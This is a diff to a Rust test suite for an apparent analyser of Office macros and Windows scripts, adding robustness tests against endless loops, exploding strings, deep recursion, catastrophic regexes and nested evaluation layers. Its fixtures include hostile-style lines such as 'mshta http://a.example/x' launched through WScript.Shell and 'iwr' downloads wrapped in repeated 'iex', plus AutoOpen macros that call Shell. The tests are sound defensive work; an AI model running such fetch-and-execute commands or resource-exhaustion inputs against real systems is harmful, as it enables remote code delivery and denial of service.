@@ -11,6 +11,9 @@ fn survive(code: &str) {
     survey_vba(&[module("M", ModuleKind::Standard, code)], &limits);
     read_command(code, &limits);
     survey_text(code, &limits);
+    for name in ["a.ps1", "a.bat", "a.vbs", "a.js", "a.hta"] {
+        survey_file(name, code, &limits);
+    }
 }
 
 #[test]
@@ -75,8 +78,24 @@ fn nests_and_repeats_without_end() {
         "frombase64string('",
         "$a='",
         "\u{3042}",
+        "{",
+        "function(",
+        "for %i in (",
+        "$(",
+        "\"$(",
+        "a?",
+        "<script>",
+        "#@~^",
+        "$a=$a+$a;",
+        "while(1){",
+        "do\n",
+        "select case a\ncase 1\n",
+        "class a\n",
+        "for i = 1 to 9\n",
+        "dim a(999999)\n",
+        "1..9999999|%{$_};",
     ] {
-        let text = unit.repeat(40_000 / unit.len());
+        let text = unit.repeat(6_000 / unit.len());
         survive(&text);
         survive(&format!("Sub AutoOpen()\nx = {text}\nShell x\nEnd Sub"));
     }
@@ -99,15 +118,13 @@ fn arrays_inside_arrays_overflowed_the_stack() {
 
 #[test]
 fn arrays_that_double_took_half_a_gigabyte() {
-    let limits = Limits { steps_max: 100_000, ..Limits::desk() };
     let wide = (0..60).map(|_| "x").collect::<Vec<_>>().join(", ");
     let code = format!(
         "Sub AutoOpen()\nx = \"a\"\n{}Shell \"calc\"\nEnd Sub",
         format!("x = Array({wide})\n").repeat(9)
     );
-    let parsed = survey_vba(&[module("M", ModuleKind::Standard, &code)], &limits);
-    assert_eq!(parsed.problems, [Problem::limit("vba", "steps_max", 100_000)]);
-    // Deep and narrow ends by the depth, not by the steps.
+    assert!(survey(&code).calls.iter().any(|call| call.argument == "calc"));
+    // Deep and narrow ends by the depth, wide by how much one array may hold.
     let code =
         format!("Sub AutoOpen()\nx = \"a\"\n{}Shell \"calc\"\nEnd Sub", "x = Array(x, x)\n".repeat(60));
     assert!(survey(&code).calls.iter().any(|call| call.argument == "calc"));
@@ -140,6 +157,105 @@ fn limits_are_told() {
     assert_eq!(cut.problems, [Problem::limit("text", "layers_max", 1)]);
 }
 
+/// Runs a project and tells whether the fuel was spent, and what was not followed.
+fn bounded(code: &str) -> (Survey, bool) {
+    let parsed = survey_vba(&[module("M", ModuleKind::Standard, code)], &Limits::desk());
+    let spent = parsed.problems.iter().any(|p| p.limit.as_ref().is_some_and(|l| l.name == "steps_max"));
+    (parsed.value, spent)
+}
+
+#[track_caller]
+fn check_reached(code: &str) {
+    let (survey, spent) = bounded(code);
+    assert!(survey.calls.iter().any(|call| call.argument == "calc"), "{:?}", survey.calls);
+    assert!(!spent);
+}
+
+#[track_caller]
+fn check_stopped(code: &str, why: Obstacle) {
+    let (survey, spent) = bounded(code);
+    assert!(survey.unfollowed.iter().any(|place| place.obstacle == why), "{:?}", survey.unfollowed);
+    assert_eq!(spent, why == Obstacle::Steps);
+}
+
+#[test]
+fn loops_that_only_wait_are_left() {
+    check_reached("Sub AutoOpen()\nDo\nx = x + 1\nLoop\nc = \"calc\"\nShell c\nEnd Sub");
+    check_reached(
+        "Sub AutoOpen()\nFor i = 1 To 1000000000\ny = Sin(i) * 3\nNext\nc = \"calc\"\nShell c\nEnd Sub",
+    );
+    check_reached(
+        "Sub AutoOpen()\nFor i = 1 To 90000\nFor j = 1 To 90000\nk = j Xor i\nNext j, i\nc = \"calc\"\nShell c\nEnd Sub",
+    );
+    check_reached("Sub AutoOpen()\nagain: If Timer > 3 Then GoTo again\nc = \"calc\"\nShell c\nEnd Sub");
+}
+
+#[test]
+fn loops_that_grow_without_end_spend_the_fuel_and_say_so() {
+    check_stopped("Sub AutoOpen()\nDo\ns = s & \"x\"\nLoop\nShell \"a\" & s\nEnd Sub", Obstacle::Steps);
+    check_stopped(
+        "Sub AutoOpen()\nagain:\ns = s & \"x\"\nGoTo again\nShell \"a\" & s\nEnd Sub",
+        Obstacle::Steps,
+    );
+    check_stopped(
+        "Sub AutoOpen()\nDim a(60000)\nDo\ni = (i + 1) Mod 60000\na(i) = a(i) & \"xxxxxxxxxxxxxxxxxxxxxxxxxx\"\nLoop\nShell a(1)\nEnd Sub",
+        Obstacle::Steps,
+    );
+}
+
+#[test]
+fn calls_without_end_are_said() {
+    check_stopped(
+        "Function f(n)\nf = f(n + 1)\nEnd Function\nSub AutoOpen()\nShell f(1)\nEnd Sub",
+        Obstacle::Depth,
+    );
+    let deep = format!("Function f(n)\nf = {}f(n + 1){}\nEnd Function\n", "(1 + ".repeat(25), ")".repeat(25));
+    check_stopped(&format!("{deep}Sub AutoOpen()\nShell f(1)\nEnd Sub"), Obstacle::Depth);
+    let nested = format!("Function f(n)\nf = {}f(n + 1){}\nEnd Function\n", "g(".repeat(25), ")".repeat(25));
+    check_stopped(
+        &format!("{nested}Function g(n)\ng = n\nEnd Function\nSub AutoOpen()\nShell f(1)\nEnd Sub"),
+        Obstacle::Depth,
+    );
+    let parentheses = format!("x = {}1{}\n", "(".repeat(500), ")".repeat(500));
+    check_stopped(&format!("Sub AutoOpen()\n{parentheses}Shell x\nEnd Sub"), Obstacle::Statement);
+    let forks = "Sub walk(p)\nIf Dir(p) = \"\" Then walk p & \"a\" Else walk p & \"b\"\nEnd Sub\n";
+    check_stopped(&format!("{forks}Sub AutoOpen()\nwalk \"c\"\nShell x\nEnd Sub"), Obstacle::Depth);
+}
+
+#[test]
+fn a_thousand_conditions_nobody_knows_are_two_ways_at_a_time() {
+    let code = "If Timer > 1 Then s = s & \"a\" Else s = s & \"b\"\n".repeat(1_000);
+    let (survey, spent) = bounded(&format!("Sub AutoOpen()\ns = \"calc \"\n{code}Shell s\nEnd Sub"));
+    assert!(survey.calls.iter().any(|call| call.argument.starts_with("calc …")), "{:?}", survey.calls);
+    assert!(!spent);
+    // Jumps that never meet again.
+    let mut jumps = String::new();
+    for at in 0..200 {
+        writeln!(jumps, "If Timer > {at} Then GoTo z{at}").unwrap();
+    }
+    for at in 0..200 {
+        writeln!(jumps, "z{at}: s = s & \"{at}\"").unwrap();
+    }
+    check_stopped(&format!("Sub AutoOpen()\n{jumps}Shell s\nEnd Sub"), Obstacle::States);
+}
+
+#[test]
+fn long_lines_and_many_procedures() {
+    let joined = vec!["\"a\""; 300_000].join(" & ");
+    let (survey, _) =
+        bounded(&format!("Sub AutoOpen()\ns = {joined}\nShell \"calc \" & Left(s, 3)\nEnd Sub"));
+    assert!(survey.calls.iter().any(|call| call.argument.starts_with("calc ")), "{:?}", survey.calls);
+    let mut many = String::new();
+    for at in 0..5_000 {
+        writeln!(many, "Function f{at}(x)\nf{at} = x & \"{}\"\nEnd Function", at % 10).unwrap();
+    }
+    let calls: String = (0..5_000).map(|at| format!("s = f{at}(s)\n")).collect();
+    let (survey, spent) =
+        bounded(&format!("{many}Sub AutoOpen()\n{calls}Shell \"calc\" & Right(s, 3)\nEnd Sub"));
+    assert!(survey.calls.iter().any(|call| call.argument == "calc789"), "{:?}", survey.calls);
+    assert!(!spent);
+}
+
 proptest! {
     #[test]
     fn any_mutation_is_survived(at in 0usize..220, len in 0usize..20, with in "\\PC{0,8}|[\"'&()\\[\\]$%^`\\n_:.=-]{0,12}") {
@@ -149,4 +265,103 @@ proptest! {
         text.splice(at..end, with.chars());
         survive(&text.into_iter().collect::<String>());
     }
+}
+
+/// Each problem of a script in a file of that name.
+fn problems(name: &str, text: &str) -> Vec<Problem> {
+    survey_file(name, text, &Limits::desk()).problems
+}
+
+#[test]
+fn scripts_that_never_end_meet_their_limit() {
+    for (name, text) in [
+        ("a.js", "var s='ab';for(;;){s+=s}"),
+        ("a.js", "function f(){for(var i=0;i<9;i++)f();return f()}f()"),
+        ("a.vbs", "For i = 1 To 2000000000\nx = x & \"a\"\nNext"),
+        ("a.vbs", "Sub f\nFor i = 1 To 9\nf\nNext\nEnd Sub\nf"),
+        ("a.ps1", "for($i=0;$i -lt 2000000000;$i++){$s+='a'}"),
+        ("a.ps1", "function f{1..9|%{f}};f"),
+        ("a.bat", "for /l %%i in (1,1,9999) do for /l %%j in (1,1,9999) do set x=%%i%%j"),
+    ] {
+        let found = problems(name, text);
+        assert!(found.iter().any(|problem| problem.limit.is_some()), "{text}: {found:?}");
+    }
+}
+
+#[test]
+fn what_stands_behind_a_loop_that_only_waits_is_read() {
+    for (name, text) in [
+        ("a.js", "for(;;){a=1;b=a}new ActiveXObject('WScript.Shell').Run('mshta http://a.example/x')"),
+        (
+            "a.vbs",
+            "Do While WScript.Interactive\nWScript.Sleep 9\nLoop\nCreateObject(\"WScript.Shell\").Run \"mshta http://a.example/x\"",
+        ),
+        ("a.ps1", "while($true){sleep 9};mshta http://a.example/x"),
+    ] {
+        let parsed = survey_file(name, text, &Limits::desk());
+        assert!(parsed.value.commands.iter().any(|command| command.fetches), "{text}");
+    }
+}
+
+#[test]
+fn strings_that_double_end() {
+    for (name, text) in [
+        ("a.js", "var s='abcdefgh';for(var i=0;i<99;i++)s=s+s;new ActiveXObject('WScript.Shell').Run(s)"),
+        (
+            "a.vbs",
+            "s = \"abcdefgh\"\nFor i = 1 To 99\ns = s & s\nNext\nCreateObject(\"WScript.Shell\").Run s",
+        ),
+        ("a.ps1", "$s='abcdefgh';1..99|%{$s+=$s};start-process $s"),
+        ("a.ps1", "$s='a'*999999999;iex $s"),
+        ("a.bat", "set s=abcdefgh\nfor /l %%i in (1,1,99) do call set s=%%s%%%%s%%\n%s%"),
+        ("a.vbs", "s = String(2000000000, \"a\")\nx = Replace(s, \"a\", s)"),
+        ("a.js", "var a=[1];for(var i=0;i<99;i++)a=a.concat(a);a.join('')"),
+    ] {
+        let parsed = survey_file(name, text, &Limits::desk());
+        let longest = parsed.value.commands.iter().map(|command| command.script.len()).max().unwrap_or(0);
+        assert!(longest <= Limits::desk().text_bytes_max, "{text}");
+    }
+}
+
+#[test]
+fn layers_without_end_are_told() {
+    let mut text = "iwr http://a.example/x".to_owned();
+    for _ in 0..50 {
+        text = format!("iex '{}'", text.replace('\'', "''"));
+        if text.len() > 1 << 20 {
+            break;
+        }
+    }
+    let told = |found: Vec<Problem>| {
+        found.iter().any(|problem| problem.limit.as_ref().is_some_and(|l| l.name == "layers_max"))
+    };
+    assert!(told(problems("a.ps1", &text)));
+    let call = "powershell -c ".repeat(50) + "iwr http://a.example/x";
+    assert!(told(problems("a.ps1", &call)));
+    assert_eq!(problems("a.js", "eval(unescape('x%3d\"a\";eval(x+\"\")'))"), []);
+    let circle = "function f(){eval('f()')}f()";
+    assert!(told(problems("a.js", circle)));
+    assert!(told(problems("a.vbs", "Sub f\nExecute \"f\"\nEnd Sub\nf")));
+}
+
+#[test]
+fn patterns_cannot_explode() {
+    let long = "a".repeat(30_000);
+    for (name, text) in [
+        ("a.js", format!("'{long}'.replace(/(a+)+b/g,'')")),
+        ("a.ps1", format!("'{long}' -replace '(a*)*b','c'")),
+        ("a.vbs", format!("Set r = New RegExp\nr.Pattern = \"(a|aa)+$b\"\nx = r.Replace(\"{long}\", \"\")")),
+        ("a.js", format!("'{long}'.match(/{}/)", "(".repeat(2_000))),
+        ("a.ps1", format!("'{long}' -match 'a{{1000}}{{1000}}{{1000}}'")),
+    ] {
+        assert_eq!(problems(name, &text), [], "{}", text.get(..40).unwrap());
+    }
+}
+
+#[test]
+fn more_commands_than_the_limit_are_told() {
+    let text = "mshta http://a.example/x\r\n".repeat(400);
+    let parsed = survey_file("a.bat", &text, &Limits::desk());
+    assert_eq!(parsed.value.commands.len(), 256);
+    assert_eq!(parsed.problems, [Problem::limit("text", "commands_max", 256)]);
 }
